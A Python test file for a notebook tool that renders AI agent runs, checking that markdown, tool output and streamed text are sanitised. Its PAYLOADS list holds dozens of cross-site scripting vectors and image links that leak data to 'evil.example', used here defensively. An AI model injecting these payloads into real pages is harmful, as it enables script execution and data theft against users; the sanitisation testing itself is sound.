from __future__ import annotations

import asyncio
import html
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from support.doubles import HeldModel, hire, settled
from whisper_nb import Agent, AIConfig, ModelError, Rule, Run, Runtime, ScriptedModel
from whisper_nb.core.events import (
    AgentRevised,
    Event,
    HistoryReset,
    HistoryTrimmed,
    ModelReplied,
    Record,
    RunFinished,
    RunQueued,
    RunStarted,
    StateChanged,
    TextStreamed,
    ToolFinished,
    ToolStarted,
)
from whisper_nb.core.messages import (
    AssistantMessage,
    CallDelta,
    Finish,
    TextDelta,
    ToolCall,
    ToolMessage,
    Usage,
    UserMessage,
)
from whisper_nb.core.states import State
from whisper_nb.notebook.cells.highlight import BLOCK, COLORS
from whisper_nb.notebook.cells.markdown import CODE, PLAIN, markdown_tree, safe_markdown
from whisper_nb.notebook.cells.render import (
    SHOWN,
    STREAMED,
    history_lines,
    log_line,
    run_bundle,
    run_html,
    run_text,
    status_line,
    step_line,
    tool_lines,
)
from whisper_nb.notebook.cells.tables import table_html, table_text
from whisper_nb.notebook.panel.snapshot import team_rows

MARKDOWN_TAGS = {
    "a", "blockquote", "br", "code", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre", "s",
    "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
OUR_TAGS = {"div", "small"}
#: Class names for MathJax 3 and 2: elements that it ignores, and elements that it still typesets.
LEFT_ALONE, TYPESET = "mathjax_ignore tex2jax_ignore", "mathjax_process tex2jax_process"
OUR_STYLES = re.compile(
    r"color:(#[0-9a-f]{6}|var\(--jp-error-color1, #c62828\)|var\(--jp-mirror-editor-[a-z]+-color, #[0-9a-f]{6}\))"
    r"|opacity:\.75|text-align:left"
    rf"|{'|'.join(re.escape(style.removeprefix('style=').strip(chr(34))) for style in (CODE, PLAIN))}"
)
ATTRIBUTES = {"a": {"href", "rel"}, "ol": {"start"}}
SCHEMES = {"http", "https", "mailto"}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" ONERROR="alert(1)"//',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x'/></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href=javascript:alert(1)>click</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<p onmouseover=alert(1)>x</p>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style=position:fixed;inset:0;z-index:9>click me</div>",
    "<style>@import '//evil.example/x.css'; * { display: none }</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=token><button formaction=javascript:alert(1)>ok</form>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    "</pre></div><script>alert(1)</script>",
    "</code></small></td></tr></table><script>alert(1)</script>",
    "<button data-commandlinker-command=kernelmenu:shutdown>x</button>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](vbscript:alert(1)) [y](file:///etc/passwd) [z](blob:http://x/y)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](http://evil.example 'title\" onclick=alert(1) x=\"')",
    "[x]: javascript:alert(1) 'title'\n\n[x]",
    "<javascript:alert(1)>",
    "![x](x'onerror=alert(1))",
    "![x](http://evil.example/leak?q=secret)",
    "![x][y]\n\n[y]: http://evil.example/leak",
    "[![x](http://evil.example/leak)](http://evil.example)",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```html onload=alert(1)" x="\n<b>\n```',
    "`<script>alert(1)</script>`",
    "| a | b |\n|:-:|--:|\n| <script>alert(1)</script> | <td onclick=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    "> <svg onload=alert(1)>\n1. <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\x00<script\x00>alert(1)</script>",
    "<scrıpt>alert(1)</scrıpt>",
    "\ud83d<script>alert(1)</script>\ude00",
    "\u202e<img src=x onerror=alert(1)>",
    "$$\\href{javascript:alert(1)}{x}$$ $\\unicode{<img src=x onerror=alert(1)>}$",
]


class Page(HTMLParser):
    """The tags and text that a browser would find in some HTML."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.foreign: list[str] = []
        self.text = ""
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.foreign.append(data)

    def handle_decl(self, decl: str) -> None:
        self.foreign.append(decl)

    def handle_pi(self, data: str) -> None:
        self.foreign.append(data)

    def unknown_decl(self, data: str) -> None:
        self.foreign.append(data)


def assert_safe(markup: str, tags: set[str]) -> Page:
    """Assert that it has only these tags, their attributes, and our own styles."""
    page = Page(markup)
    assert page.foreign == []
    for tag, attributes in page.tags:
        assert tag in tags, markup
        for name, value in attributes.items():
            if name == "style":
                assert OUR_STYLES.fullmatch(value or ""), markup
                continue
            if name == "class":
                assert (tag, value) in {("span", TYPESET), ("div", LEFT_ALONE)}, markup
                continue
            if name == "dir":
                assert (tag in ("div", "pre"), value) == (True, "auto"), markup
                continue
            assert name in ATTRIBUTES.get(tag, ()), markup
            if name == "href":
                assert urlsplit(value or "").scheme in SCHEMES, markup
    return page


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_of_a_model_can_neither_run_nor_load_anything(payload: str) -> None:
    assert_safe(safe_markdown(payload), MARKDOWN_TAGS)
    assert_safe(safe_markdown(f"text\n\n- {payload}\n\n| a |\n|---|\n| {payload} |\n"), MARKDOWN_TAGS)


@given(st.text(alphabet="<>&\"'=/ \n`[]()!#*|-_:;\\scriptonerjavx\x00"))
def test_no_text_becomes_unsafe_html(text: str) -> None:
    assert_safe(safe_markdown(text), MARKDOWN_TAGS)


def test_links_lead_out_of_the_notebook_or_are_removed() -> None:
    page = assert_safe(
        safe_markdown("[a](https://x.example/?a=1&b=2) [b](mailto:x@x.example) [c](/api/shutdown) [d](../x.html)"),
        MARKDOWN_TAGS,
    )
    links = [attributes for tag, attributes in page.tags if tag == "a"]
    assert [link.get("href") for link in links] == ["https://x.example/?a=1&b=2", "mailto:x@x.example", None, None]
    assert {link["rel"] for link in links} == {"noopener noreferrer"}


def test_valid_markdown_is_rendered() -> None:
    page = assert_safe(
        safe_markdown("# T\n\n**b** *e* ~~d~~ `c`\n\n3. x\n\n> q\n\n```python\na < b\n```\n\n| h |\n|---|\n| v |\n"),
        MARKDOWN_TAGS,
    )
    tags = [tag for tag, _ in page.tags]
    for tag in ("h1", "strong", "em", "s", "code", "ol", "blockquote", "pre", "table", "th", "td"):
        assert tag in tags
    assert ("ol", {"start": "3"}) in page.tags
    assert "a < b" in page.text


def styled(markup: str) -> dict[str, str]:
    """The colored parts of code, with the name of the color."""
    return {
        html.unescape(text): color
        for color, text in re.findall(
            r'<span style="color:var\(--jp-mirror-editor-(\w+)-color, #\w+\)">(.*?)</span>', markup
        )
    }


def test_code_is_highlighted_on_a_surface_of_its_own() -> None:
    markup = safe_markdown("```python\ndef f(x):\n    return 'a<b' # why\n```\n\n    indented\n")
    assert markup.count(f"<pre {CODE}>") == 2
    assert styled(markup) == {"def": "keyword", "f": "def", "return": "keyword", "'a<b'": "string", "# why": "comment"}


@pytest.mark.parametrize(
    "block",
    ["```brainfuck\n+[->+<]\n```", "```\nif x:\n```", "```python\n" + "if x: pass\n" * (BLOCK // 11 + 1) + "```"],
)
def test_code_in_an_unknown_language_or_too_long_is_plain(block: str) -> None:
    markup = safe_markdown(block)
    assert styled(markup) == {}
    assert f"<pre {CODE}><code>" in markup


def nodes(tree: list[Any]) -> Iterator[list[Any]]:
    """All nodes of a tree that are tags."""
    for node in tree:
        if isinstance(node, list):
            yield node
            if node[0] != "pre":
                yield from nodes(node[2:])


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_tree_of_a_text_has_only_known_tags_and_addresses(payload: str) -> None:
    for node in nodes(markdown_tree(f"{payload}\n\n- {payload}\n\n| a |\n|---|\n| {payload} |\n")):
        tag, attribute, *rest = node
        assert tag in MARKDOWN_TAGS - {"span"}
        assert tag in ("a", "ol", "pre") or not attribute
        if tag == "a" and attribute:
            assert urlsplit(attribute).scheme in ("http", "https")
        if tag == "pre":
            assert all(style == "" or style in COLORS for style, _ in rest)


def test_the_tree_of_a_text_has_its_structure() -> None:
    text = "# T\n\n**b** [l](https://x.example/)\n\n3. x\n   - y\n\n```python\nif 1:\n```\n\n$x^2$"
    assert markdown_tree(text) == [
        ["h1", "", "T"],
        ["p", "", ["strong", "", "b"], " ", ["a", "https://x.example/", "l"]],
        ["ol", "3", ["li", "", "x", ["ul", "", ["li", "", "y"]]]],
        ["pre", "python", ["keyword", "if"], ["", " "], ["number", "1"], ["", ":\n"]],
        ["p", "", ["code", "", "$x^2$"]],
    ]
    assert markdown_tree("[<*" * 16_000) == [["pre", "", ["", "[<*" * 16_000]]]


def math_in(markup: str) -> list[str]:
    """The text that MathJax may typeset."""
    return [html.unescape(one) for one in re.findall(f'<span class="{TYPESET}">(.*?)</span>', markup, re.DOTALL)]


@pytest.mark.parametrize(
    "text",
    [
        "It costs $5 or $6",
        "$5/month, or US$60 a year",
        "between $10–$20",
        "`$HOME` and $PATH, $USER",
        "5 $ or 6 $ more",
        "From $20k to $30k in US$; then $3/month.",
        "$1,000$ and pay $5$ now",
        r"\$5 or \$6 (\$)",
        "$",
        "$$",
    ],
)
def test_an_amount_of_money_is_not_math(text: str) -> None:
    markup = safe_markdown(text)
    assert math_in(markup) == []
    assert Page(markup).text.strip() == text.replace("\\$", "$").replace("`", "")


def test_money_in_bold_is_bold() -> None:
    markup = safe_markdown("**$5** to **$9**. 5$ and 10$ here.")
    assert math_in(markup) == []
    assert markup.count("<strong>") == 2


@pytest.mark.parametrize(
    ("text", "math"),
    [
        ("$x^2$ is 5", ["$x^2$"]),
        ("for $5, the area $a < b$ and a 3$\\times$", ["$a < b$", "$\\times$"]),
        ("$$\n\\frac{a}{b}\n$$", ["$$\n\\frac{a}{b}\n$$"]),
        ("so $$ x_1 $$ and \\(y_*z_*\\)", ["$$ x_1 $$", "$y_*z_*$"]),
        ("\\[z\\]", ["$$z$$"]),
        ("$2 + x$, inline \\[ c = \\sqrt{2} \\] too", ["$2 + x$", "$$ c = \\sqrt{2} $$"]),
        ("\\begin{align}\na &= b\n\\end{align}", ["\\begin{align}\na &= b\n\\end{align}"]),
    ],
)
def test_math_is_left_to_mathjax(text: str, math: list[str]) -> None:
    assert [one.strip() for one in math_in(safe_markdown(text))] == math


# A whole run


async def ran(runtime: Runtime, rule: Rule, *more: Rule, prompt: str = "go", **agent: Any) -> Run:
    """A finished run."""
    runtime.models["offline/test"] = ScriptedModel([*more, rule])
    run = runtime.create(Agent(name="bob", config="offline/test", **agent)).submit(prompt)
    async for _ in run.stream():
        pass
    return run


def literal(text: str) -> str:
    """Escape a text as a rule's reply, so that the reply is exactly this text."""
    return text.replace("\\", "\\\\")


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_no_part_of_a_run_is_shown_as_foreign_markup(runtime: Runtime, payload: str) -> None:
    def look(path: str) -> str:
        raise ValueError(payload + path)

    call = {"name": literal(payload), "arguments": {"path": literal(payload)}}
    calls = [call, {"name": "look", "arguments": {"path": "x"}}, {"name": "look", "arguments": literal(payload)}]
    good = await ran(runtime, Rule("", literal(payload), role="tool"), Rule("", "", "user", calls=calls), tools=(look,))
    assert good.status == "succeeded"
    bad = await ran(runtime, Rule("", error=payload), prompt=payload)
    assert bad.status == "failed"
    for run in (good, bad):
        page = assert_safe(run_bundle(run)["text/html"], MARKDOWN_TAGS | OUR_TAGS)
        assert page.tags[0] == ("div", {"class": LEFT_ALONE})
        assert run.status in page.text
        row = assert_safe(table_html(team_rows(runtime), ""), MARKDOWN_TAGS | OUR_TAGS)
        assert "bob" in row.text
    for markup in (table_html([{payload: payload}], ""), table_html([], payload)):
        assert assert_safe(markup, MARKDOWN_TAGS | OUR_TAGS).tags[0] == ("div", {"class": LEFT_ALONE})


async def test_streaming_text_is_escaped(runtime: Runtime) -> None:
    gate = asyncio.Event()
    runtime.models["offline/test"] = Held(["<b>**half** a", " sentence"], gate)
    run = runtime.create(Agent(name="bob", config="offline/test")).submit("go")
    async for record in run.stream():
        if getattr(record.event, "text", "") == "<b>**half** a":
            break
    page = assert_safe(run_html(run), MARKDOWN_TAGS | OUR_TAGS)
    assert "<b>**half** a" in page.text
    assert "strong" not in [tag for tag, _ in page.tags]
    assert "bob#1 · running · " in page.text
    assert re.search(r"as of \d\d:\d\d:\d\d", page.text)
    gate.set()
    await run
    page = assert_safe(run_html(run), MARKDOWN_TAGS | OUR_TAGS)
    assert "strong" in [tag for tag, _ in page.tags]
    assert "as of" not in page.text


class Held(ScriptedModel):
    """Streams the first piece, waits for the test, then streams the rest."""

    def __init__(self, pieces: list[str], gate: asyncio.Event, usage: Usage | None = None, cost: float | None = None):
        super().__init__([])
        self.pieces, self.gate, self.finish = pieces, gate, Finish("stop", usage, cost)

    async def stream(self, request: Any) -> Any:
        yield TextDelta(self.pieces[0])
        await self.gate.wait()
        for piece in self.pieces[1:]:
            yield TextDelta(piece)
        yield self.finish


async def test_a_tool_that_the_provider_runs_is_shown_as_a_step(runtime: Runtime) -> None:
    class Searching(ScriptedModel):
        async def stream(self, request: Any) -> Any:
            yield CallDelta(0, "s", "web_search", '{"query": "news"}', served=True)
            yield TextDelta("The news is good.")
            yield Finish("stop")

    runtime.models["offline/mine"] = Searching([])
    run = runtime.create(Agent(name="bob", config=AIConfig(model="offline/mine"))).submit("Hi")
    assert await run == "The news is good."
    assert tool_lines(run) == ['✓ web_search(query="news") → run by the provider']


def spent(usage: Usage | None, cost: float | None) -> Held:
    """A model that reports its cost."""
    gate = asyncio.Event()
    gate.set()
    return Held(["ok"], gate, usage, cost)


@pytest.mark.parametrize(
    ("usage", "cost", "facts"),
    [
        (Usage(1_234, 56), 0.0021, "in 1,234 · out 56 tokens · $0.0021"),
        (Usage(120, 45), 0.0021, "in 120 · out 45 tokens · $0.0021"),
        (Usage(1, 1), 0.0, "in 1 · out 1 tokens · $0"),
        (Usage(1, 1), 0.000012, "in 1 · out 1 tokens · $0.000012"),
        (Usage(1, 1), None, "in 1 · out 1 tokens · cost unknown"),
        (None, None, "tokens unknown · cost unknown"),
        (None, 0.5, "tokens unknown · $0.5000"),
    ],
)
async def test_the_status_line_has_the_known_tokens_and_cost(
    runtime: Runtime, usage: Usage | None, cost: float | None, facts: str
) -> None:
    runtime.models["offline/test"] = spent(usage, cost)
    run = runtime.create(Agent(name="bob", config="offline/test")).submit("go")
    await run
    assert re.fullmatch(rf"bob#1 · succeeded · {re.escape(facts)} · \d+\.\d s", status_line(run))


async def test_the_status_line_of_a_run_has_the_tokens_of_its_finished_turns(runtime: Runtime) -> None:
    arrived, gate = asyncio.Event(), asyncio.Event()

    async def rows() -> str:
        """Return all rows."""
        arrived.set()
        await gate.wait()
        return "none"

    run = hire(runtime, ScriptedModel([Rule(match="go", calls=[{"name": "rows"}])]), tools=(rows,)).submit("go")
    await arrived.wait()
    assert re.search(r" · running · in \d+ · out \d+ tokens so far · ", status_line(run))
    gate.set()
    await settled(run)
    assert "so far" not in status_line(run)


async def test_the_cell_says_how_long_a_long_prompt_is_before_it_is_answered(runtime: Runtime) -> None:
    held = HeldModel()
    run = hire(runtime, held).submit("word " * 25_000)
    await held.arrived()
    assert tool_lines(run) == ["note: about 25,000 tokens go to offline/bob, $0"]
    assert "about 25,000 tokens go to offline/bob" in run_html(run)
    run.cancel()
    await settled(run)


async def test_the_status_line_of_a_run_that_has_not_started_has_no_cost(runtime: Runtime) -> None:
    bob = runtime.create(Agent(name="bob"))
    bob.pause()
    run = bob.submit("go")
    async for record in run.stream():
        if record.run:
            break
    assert re.fullmatch(r"bob#1 · queued · as of \d\d:\d\d:\d\d", status_line(run))
    run.cancel()
    async for _ in run.stream():
        pass
    assert status_line(run) == "bob#1 · cancelled"


async def test_an_unknown_cost_is_never_zero_in_the_table(runtime: Runtime) -> None:
    bob = runtime.create(Agent(name="bob", config="offline/test"))
    assert team_rows(runtime)[0]["cost"] == "$0", "nothing was sent, so this is known"
    gate = asyncio.Event()
    runtime.models["offline/test"] = Held(["a", "b"], gate, Usage(3, 4), 0.25)
    run = bob.submit("first")
    async for record in run.stream():
        if getattr(record.event, "text", ""):
            break
    assert [team_rows(runtime)[0][fact] for fact in ("done", "tokens", "cost")] == ["0", "unknown", "$0 so far"]
    gate.set()
    await run
    assert team_rows(runtime)[0]["cost"] == "$0.2500"
    runtime.models["offline/test"] = spent(None, None)
    await bob.submit("second")
    bob.submit("third").cancel()
    row = team_rows(runtime)[0]
    assert (row["tokens"], row["cost"]) == ("at least 3 + 4", "at least $0.2500, 1 run unknown")


async def test_text_plain_has_the_same_content(runtime: Runtime) -> None:
    def add(a: int, b: int) -> int:
        return a + b

    calls = [{"name": "add", "arguments": {"a": 1, "b": 2}}, {"name": "add", "arguments": {"a": "x"}}]
    run = await ran(runtime, Rule("", "**three**", role="tool"), Rule("", role="user", calls=calls), tools=(add,))
    text = run_bundle(run)["text/plain"]
    assert text == run_text(run)
    first, *lines, blank, body = text.split("\n")
    assert first == status_line(run)
    assert lines[0] == "  ✓ add(a=1, b=2) → 3"
    assert lines[1].startswith('  ✗ add(a="x") → error: TypeError: wrong arguments for add: a ')
    assert (blank, body) == ("", "**three**")
    page = Page(run_html(run))
    assert "✓ add(a=1, b=2) → 3" in page.text
    assert "three" in page.text


async def test_a_failed_run_shows_its_error_and_its_text_so_far(runtime: Runtime) -> None:
    run = await ran(runtime, Rule("", "one two three", truncate=2))
    assert isinstance(run.error, ModelError)
    for text in (run_text(run), Page(run_html(run)).text):
        assert "bob#1 · failed" in text
        assert "the reply was cut off" in text
        assert "one two" in text


async def test_a_running_tool_is_shown_before_it_ends(runtime: Runtime) -> None:
    gate, started = asyncio.Event(), asyncio.Event()

    async def slow() -> str:
        started.set()
        await gate.wait()
        return "x" * 200

    runtime.models["offline/test"] = ScriptedModel([Rule("", "done", role="tool"), Rule(calls=[{"name": "slow"}])])
    run = runtime.create(Agent(name="bob", config="offline/test", tools=(slow,))).submit("go")
    await started.wait()
    assert tool_lines(run) == ["… slow()"]
    gate.set()
    await run
    (line,) = tool_lines(run)
    assert line.startswith("✓ slow() → xxx")
    assert line.endswith("…")
    assert len(line) < 100


async def test_a_long_text_is_truncated_and_says_where_the_rest_is(runtime: Runtime) -> None:
    run = await ran(runtime, Rule("", "x" * (SHOWN + 1234)))
    for text in (run_text(run), Page(run_html(run)).text):
        assert "1,234 more characters in run.text" in text
        assert len(text) < SHOWN + 500


async def test_a_long_text_shows_its_end_while_it_streams(runtime: Runtime) -> None:
    gate = asyncio.Event()
    runtime.models["offline/test"] = Held(["a" * STREAMED + "the end", ""], gate)
    run = runtime.create(Agent(name="bob", config="offline/test")).submit("go")
    async for record in run.stream():
        if getattr(record.event, "text", ""):
            break
    assert "… 7 characters above …" in run_text(run)
    assert run_text(run).endswith("the end")
    gate.set()
    await run


async def test_a_surrogate_pair_in_two_deltas_is_one_character_and_a_lone_half_is_replaced(runtime: Runtime) -> None:
    for reply, shown in (("\ud83d\ude00", "😀"), ("a \ud83d b", "a \N{REPLACEMENT CHARACTER} b")):
        bundle = run_bundle(await ran(runtime, Rule("", reply)))
        for text in bundle.values():
            text.encode()
            assert shown in text


async def test_control_characters_are_not_printed_to_a_terminal(runtime: Runtime) -> None:
    run = await ran(runtime, Rule("", "a\x1b[2Jb\x07\r\tc\n"), prompt="\x1b]0;owned\x07")
    for text in (*run_bundle(run).values(), table_text(team_rows(runtime), "")):
        assert not set("\x1b\x07\r") & set(text)
    assert "\tc" in run_bundle(run)["text/plain"]


def test_a_table_is_printed_in_columns() -> None:
    rows = [{"agent": "bob", "state": "idle"}, {"agent": "margaret", "state": ""}]
    assert table_text(rows, "none").split("\n") == ["agent     state", "bob       idle", "margaret"]
    assert table_text([], "none") == "none"
    assert Page(table_html(rows, "none")).text == "agentstatebobidlemargaret"


CALL = ToolCall("c1", "rows", '{"table": "sales"}')


@pytest.mark.parametrize(
    ("event", "told"),
    [
        (RunQueued("count\nthem", "high"), "queued, high: count them"),
        (RunStarted("count them", "offline/echo"), "started on offline/echo"),
        (ModelReplied(AssistantMessage("three"), None, None), "replied (tokens unknown, cost unknown): three"),
        (ModelReplied(AssistantMessage("", (CALL,)), Usage(1, 2), 0.5), '$0.5000): rows(table="sales")'),
        (ToolStarted(CALL), 'calls rows(table="sales")'),
        (ToolFinished(ToolMessage("c1", "rows", "3")), "rows returned: 3"),
        (ToolFinished(ToolMessage("c1", "rows", "no such table", True)), "rows failed: no such table"),
        (RunFinished("failed", "it broke"), "failed: it broke"),
        (RunFinished("succeeded"), "succeeded"),
        (StateChanged(State(gate="paused")), "paused"),
        (HistoryTrimmed(4), "left out the 4 oldest messages"),
        (HistoryReset(), "history cleared"),
        (AgentRevised(2), "revision 2"),
        (TextStreamed("th"), "th"),
    ],
)
def test_the_log_has_a_line_for_each_event(event: Event, told: str) -> None:
    line = log_line(Record(7, 0.0, "bob", "bob#1", event))
    assert re.fullmatch(r"\d\d:\d\d:\d\d  bob#1 {7} .*", line)
    assert told in line


def test_a_history_reads_like_a_conversation() -> None:
    messages = [
        UserMessage("how many?"),
        AssistantMessage("I will look.", (CALL,)),
        ToolMessage("c1", "rows", "3"),
        AssistantMessage("Three."),
    ]
    assert list(history_lines(messages)) == [
        "user: how many?",
        "assistant: I will look.",
        'assistant calls rows(table="sales")',
        "rows returned 3",
        "assistant: Three.",
    ]


def test_the_name_that_a_model_gave_a_tool_is_printable_in_the_history() -> None:
    assert [*history_lines([ToolMessage("c", "x\x1b[2J", "\x07")])] == [
        "x\N{REPLACEMENT CHARACTER}[2J returned \N{REPLACEMENT CHARACTER}"
    ]


def test_any_tool_call_is_printable_in_one_line() -> None:
    call = ToolCall("1", "x\x1b[2J", '{"\\ud800": 1, "a": "\\u001b"}')
    assert step_line(call, None) == '… x\N{REPLACEMENT CHARACTER}[2J(\N{REPLACEMENT CHARACTER}=1, a="\\u001b")'
    assert step_line(ToolCall("1", "\ud800", "[\x1b]"), None).isprintable()


async def test_text_of_right_to_left_scripts_is_shown_as_such(runtime: Runtime) -> None:
    bob = hire(runtime, ScriptedModel([Rule("fail", error="לא"), Rule(reply="שלום")]))
    for prompt, text in (("hello", "<p>שלום</p>"), ("fail", "לא")):
        run = bob.submit(prompt)
        await settled(run)
        assert re.search(rf'<div [^>]*dir="auto">{text}', run_html(run))
